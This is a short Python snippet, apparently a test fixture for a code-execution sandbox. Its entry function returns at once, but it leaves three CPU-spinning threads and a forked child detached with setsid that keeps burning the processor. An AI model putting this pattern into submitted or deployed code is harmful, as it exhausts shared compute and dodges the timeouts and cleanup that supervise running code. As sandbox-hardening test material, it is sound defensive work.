# answers at once and leaves threads and processes that burn the processor
import os, threading
def burn():
    while True: pass
for _ in range(3): threading.Thread(target=burn, daemon=True).start()
if os.fork() == 0:
    os.setsid()
    burn()
def {ENTRY}(*args, **named): return None
